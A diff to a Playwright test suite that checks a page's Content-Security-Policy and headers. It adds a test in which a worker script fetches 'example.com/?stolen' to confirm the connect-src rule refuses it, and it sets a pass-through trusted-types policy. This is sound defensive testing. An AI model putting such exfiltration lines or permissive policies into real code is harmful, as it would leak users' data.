@@ -1,8 +1,13 @@
 /**
  * The page's headers and its Content-Security-Policy: they are sent, they refuse what they should, and the suite notices.
  */
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { test as base } from "@playwright/test";
 import { CONTENT_SECURITY_POLICY, META_POLICY } from "../../www/scripts/headers.mjs";
+import { serveFolder } from "../../www/scripts/serve-folder.mjs";
 import { expect, expectInnocent, openPage, test, watch } from "./page.js";
 
 test("every file is sent with the headers", async ({ request }) => {
@@ -107,6 +112,7 @@ const ATTACKS: Record<string, [attack: () => unknown, refusedBy: RegExp]> = {
 
 base(
   "what an injected script would try is refused, and the suite fails on it",
+  { tag: "@core" },
   async ({ page, baseURL }) => {
     const watched = await watch(page, new URL(baseURL ?? "").origin);
     await openPage(page);
@@ -120,6 +126,37 @@ base(
       expect(() => expectInnocent(watched), name).toThrow();
       expect(await page.evaluate("window.injected"), name).toBeUndefined();
     }
+  },
+);
+
+base(
+  "a request of a worker to another origin is refused, and the suite fails on it",
+  { tag: "@core" },
+  async ({ page }) => {
+    const folder = mkdtempSync(join(tmpdir(), "graftlet-worker-"));
+    mkdirSync(join(folder, "assets"));
+    writeFileSync(join(folder, "index.html"), "<!doctype html><link rel=icon href=icon.svg>");
+    writeFileSync(join(folder, "icon.svg"), `<svg xmlns="http://www.w3.org/2000/svg"/>`);
+    const attack = `fetch("https://example.com/?stolen").catch(() => {});`;
+    writeFileSync(join(folder, "assets/attack.worker-1.js"), attack);
+    const server = await serveFolder(folder);
+    const { port } = server.address() as AddressInfo;
+    const url = `http://127.0.0.1:${port}/`;
+    const watched = await watch(page, new URL(url).origin);
+    await page.goto(url);
+    expectInnocent(watched);
+    await page.evaluate(() => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy("default", { createScriptURL: (url: string) => url });
+      Object.assign(window, { worker: new Worker("assets/attack.worker-1.js") });
+    });
+    await expect.poll(() => watched.violations.join("\n")).toMatch(/connect-src/);
+    expect(() => expectInnocent(watched)).toThrow();
+    server.close();
+    server.closeAllConnections();
+    rmSync(folder, { recursive: true });
   },
 );
 
